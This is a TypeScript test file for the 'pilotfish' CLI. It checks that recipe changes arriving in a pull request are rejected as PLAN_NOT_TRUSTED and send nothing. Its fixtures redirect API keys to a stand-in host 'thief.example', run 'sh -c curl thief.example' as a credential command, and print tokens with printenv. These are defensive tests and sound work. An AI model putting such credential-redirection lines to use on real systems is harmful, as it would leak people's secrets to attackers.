import { execFile } from 'node:child_process';
import { mkdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { Json } from '../../src/core/json.ts';
import { runPlan } from '../../src/engine/run.ts';
import { pilotfish } from '../cli/program.ts';
import { family, type Oven, openOven, planOf } from '../recipes/oven.ts';
import { cleanGitEnv } from '../support/git-remote.ts';
import { changesOf } from './changed-members.ts';

const run = promisify(execFile);
const env = { FIRST_TOKEN: 'first-token-0123456789' };

let at: Oven;
afterEach(() => at.close());

/** A checkout whose first commit has the plan and these files. */
async function committed(files: Readonly<Record<string, string>>, plan = planOf()) {
  at = await openOven(files, plan);
  const git = async (...args: readonly string[]): Promise<string> =>
    (await run('git', ['-C', at.folder, ...args], { env: cleanGitEnv(at.folder) })).stdout.trim();
  await git('init', '--quiet', '--initial-branch=main');
  await git('add', '--all', '--force');
  await git('commit', '--quiet', '-m', 'Base');
  return await git('rev-parse', 'HEAD');
}

/** What `--plan-from` says to a checkout whose pull request has changed some files, and what was sent. */
async function judged(base: string, change: Readonly<Record<string, string>>) {
  await at.put(change);
  const { all } = at.watch();
  const told = await at.plan({ planFrom: base, env }).then(
    () => [],
    (thrown: { readonly failures?: readonly Error[] } & Error) => (thrown.failures ?? [thrown]).map(({ message }) => message),
  );
  return { told, sent: [...all(), ...at.strangers] };
}

const oven = (text: string): Readonly<Record<string, string>> => ({ 'recipes/oven.yaml': text });
const secret = family
  .replace('      shelf: {', '      key: { type: string, secret: true, doc: A key. }\n      shelf: {')
  .replace('fields: {', 'fields: { stamp: { param: key }, ')
  .replace('delete:', 'compare: { stamp: { hidden: always } }\n      delete:');
const withSecret = planOf('    key: { secret: env://FIRST_TOKEN }\n');

describe('a family of the repository under `--plan-from`', () => {
  it.each<[what: string, change: Readonly<Record<string, string>>]>([
    ['as the base has it', {}],
    ['with other paths, bodies and texts', oven(family.replace('title: Oven', 'title: Stove').replace('body: {', 'body: { more: 1, '))],
    ['with another line of it', { 'release.plan.yaml': planOf('  - { id: second, recipe: oven.light, name: two }\n') }],
    [
      'in a file of another name',
      { 'recipes/oven.yaml': family, 'other/oven.yaml': family, 'release.plan.yaml': planOf('', '[other/*.yaml]') },
    ],
  ])('runs %s', async (_, change) => {
    const base = await committed(oven(family));
    expect((await judged(base, change)).told).toEqual([]);
  });

  it.each<[what: string, change: Readonly<Record<string, string>>, says: string]>([
    [
      'at another host',
      oven(family.replace('https://bakery.example/v1', 'https://thief.example/v1')),
      'light sends BAKERY_KEY to https://thief.example',
    ],
    ['with another variable', oven(family.replace('BAKERY_KEY', 'FIRST_TOKEN')), 'light sends FIRST_TOKEN to https://bakery.example'],
    [
      'with another form of the credential',
      oven(family.replace('{ bearer_env: BAKERY_KEY }', '{ header: X-Key, value_env: BAKERY_KEY }')),
      'light sends BAKERY_KEY to https://bakery.example',
    ],
    [
      'with a command',
      oven(family.replace('{ bearer_env: BAKERY_KEY }', '{ command: [sh, -c, "curl thief.example"] }')),
      "light sends what the command `sh -c 'curl thief.example'` prints",
    ],
    [
      'whose action sends elsewhere',
      {
        ...oven(
          family
            .replace('https://bakery.example/v1', 'null')
            .replace('{ bearer_env: BAKERY_KEY }', 'null')
            .replace(
              /kind: resource[\s\S]*/,
              'kind: action\n    doc: Rings.\n    params: { name: { type: string, required: true, doc: A name. } }\n    example: { name: x }\n    template: { trigger: { name: { param: name } }, request: { url: "https://thief.example/ring" } }\n',
            ),
        ),
      },
      'light sends to https://thief.example',
    ],
    [
      'that comes with the pull request, even at the host of a known provider',
      {
        'more/known.yaml': family
          .replace('name: oven', 'name: known')
          .replace('https://bakery.example/v1', 'https://api.cloudflare.com/client/v4'),
        'release.plan.yaml': planOf('', '["recipes/*.yaml", "more/*.yaml"]').replace('oven.light', 'known.light'),
      },
      'light sends BAKERY_KEY to https://api.cloudflare.com',
    ],
  ])('does not run %s, and nothing is sent', async (_, change, says) => {
    const base = await committed(oven(family));
    const { told, sent } = await judged(base, change);
    expect(told.join('\n')).toContain(`PLAN_NOT_TRUSTED: ${says}`);
    expect(sent).toEqual([]);
  });

  it('does not put a secret elsewhere than the family of the base does', async () => {
    const base = await committed(oven(secret), withSecret);
    expect((await judged(base, {})).told).toEqual([]);
    const { told, sent } = await judged(
      base,
      oven(secret.replace('stamp: { param: key }', 'description: { param: key }').replace('{ stamp: {', '{ description: {')),
    );
    expect(told.join('\n')).toContain('PLAN_NOT_TRUSTED: light puts the secret env://FIRST_TOKEN into key');
    expect(sent).toEqual([]);
  });

  it.each([
    ['is not there', {}],
    ['is broken there', oven('name: [')],
    ['is not named by its plan', { 'more/oven.yaml': family }],
  ])('vouches for nothing where the base’s %s', async (_, files) => {
    at = await openOven({}, 'version: 1\nchanges: []\n');
    await at.close();
    const base = await committed(files, planOf('', Object.keys(files).length === 0 ? '[]' : '["recipes/*.yaml"]'));
    const { told, sent } = await judged(base, { ...oven(family), 'release.plan.yaml': planOf() });
    expect(told.join('\n')).toContain('PLAN_NOT_TRUSTED: light sends BAKERY_KEY to https://bakery.example');
    expect(sent).toEqual([]);
  });

  it('of PILOTFISH_PLUGINS is taken only as the base has it', async () => {
    const base = await committed({ 'shared/oven.yaml': family }, planOf().replace(/recipes: .*\n/, ''));
    const plan = async () => {
      const own = { GIT_CONFIG_NOSYSTEM: '1', BAKERY_KEY: at.provider.tokens.full, PILOTFISH_PLUGINS: './shared/oven.yaml' };
      const { stdout } = await pilotfish(['plan', '--scope=s', '--json', `--plan-from=${base}`], { cwd: at.folder, env: own });
      return JSON.parse(stdout).error;
    };
    await at.put({ 'shared/oven.yaml': family.replace('title: Oven', 'title: Stove') });
    expect(await plan()).toMatchObject({ code: 'PLAN_NOT_TRUSTED', detail: expect.stringContaining('shared/oven.yaml') });
    await at.put({ 'shared/oven.yaml': family });
    expect((await plan())?.code).not.toBe('PLAN_NOT_TRUSTED');
  });
});

it('a family of the repository has no host of its own: every report names where its lines send', async () => {
  at = await openOven();
  expect((await at.plan()).hosts).toEqual([{ origin: 'https://bakery.example', lines: ['light'] }]);
});

describe('a digest covers a family of the repository', () => {
  /** Members that people read, and checks that nothing is sent by. */
  const isForPeople = (name: string): boolean =>
    /^(title|docs|verified|setup|detect)\b|\.(doc|example|todo|notes|destroys)\b|^ops\.\w+\.limits|\.params\.\w+(\.(type|enum|pattern|required))/.test(
      name,
    );

  it('in every member that a request follows from', async () => {
    at = await openOven();
    const sample = parse(family) as Json;
    const digestOf = async (value: Json): Promise<string | null> => {
      await at.put(oven(JSON.stringify(value)));
      return await at.plan({ env }).then(
        ({ digest }) => digest,
        () => null,
      );
    };
    const before = await digestOf(sample);
    expect(before).not.toBeNull();
    const held: string[] = [];
    let compared = 0;
    for (const { at: where, value } of changesOf(sample)) {
      const after = await digestOf(value);
      if (after !== null) compared += 1;
      if (after === before && !isForPeople(where)) held.push(where);
    }
    expect(held).toEqual([]);
    expect(compared).toBeGreaterThan(15);
  });

  it('and so does the approval of a command that prints its token', async () => {
    const command = family.replace('{ bearer_env: BAKERY_KEY }', '{ command: [printenv, BAKERY_KEY] }');
    at = await openOven(oven(command));
    const basisOf = async (): Promise<string> => {
      let basis = '';
      const approves = (wanted: { readonly basis: string }): boolean => {
        basis = wanted.basis;
        return true;
      };
      const commandGate = { approves };
      await runPlan(at.request(), { dispatcher: at.dispatcher, store: at.store(), repository: null, commandGate });
      return basis;
    };
    const before = await basisOf();
    expect(await basisOf()).toBe(before);
    await at.put(oven(command.replace('body: {', 'body: { more: 1, ')));
    expect(await basisOf()).not.toBe(before);
  });
});

describe('a command that only the ledger names', () => {
  const command = family.replace('{ bearer_env: BAKERY_KEY }', '{ command: [printenv, BAKERY_KEY] }');
  const key = { PILOTFISH_LEDGER_KEY: 'a-key-of-the-ledger-0123456789-0123456789' };
  const ends = async (change = {}) => (await at.destroy({ env: key, ...change })).lines.map(({ state, error }) => error?.code ?? state);

  it('runs in a destroy where a family of the plan names it too, and not without', async () => {
    at = await openOven(oven(command));
    await at.apply({ env: key });
    await rm(path.join(at.folder, 'recipes'), { recursive: true });
    expect(await ends()).toEqual(['PROVIDER_AUTH']);
    await mkdir(path.join(at.folder, 'recipes'));
    await writeFile(path.join(at.folder, 'recipes/oven.yaml'), command);
    expect(await ends()).toEqual(['settled']);
  });

  it('is taken from the family of the base under `--plan-from`', async () => {
    const base = await committed(oven(family));
    await at.put(oven(command));
    await at.apply({ env: key });
    expect(await ends({ planFrom: base })).toEqual(['PROVIDER_AUTH']);
    expect(await ends()).toEqual(['settled']);
  });
});
